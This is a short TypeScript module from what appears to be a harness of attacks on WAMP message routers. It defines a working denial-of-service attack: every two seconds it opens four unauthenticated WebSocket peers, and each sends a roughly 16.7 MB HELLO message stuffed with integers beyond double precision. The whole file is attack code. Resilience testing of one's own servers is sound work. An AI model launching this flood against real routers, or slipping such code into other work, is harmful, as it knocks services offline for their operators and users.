/** Integers that a double cannot hold, as many as fit a message, from peers that have not joined. */
import { type Attack, turnOfOne } from './attack.ts'
import { pause } from './sockets.ts'
import { open } from './wamp-peers.ts'

/** Bytes of a message. */
const length = 16_700_000

export const wampIntegers: Attack = {
  name: 'wamp-integers',
  about:
    '4 peers before WELCOME, each a message of 16.7 MB of integers beyond 2^53, again each 2 s',
  maxTurn: turnOfOne,
  async run(target, signal) {
    const integers = '9007199254740993,'.repeat(length / 17)
    const hello = `[1,"${target.realm}",{"roles":{},"authextra":{"list":[${integers}0]}}]`
    while (!signal.aborted) {
      const peers = await Promise.all(Array.from({ length: 4 }, () => open(target)))
      for (const peer of peers) peer?.webSocket.send(hello)
      await pause(2000, signal)
      for (const peer of peers) peer?.cut()
    }
  },
}
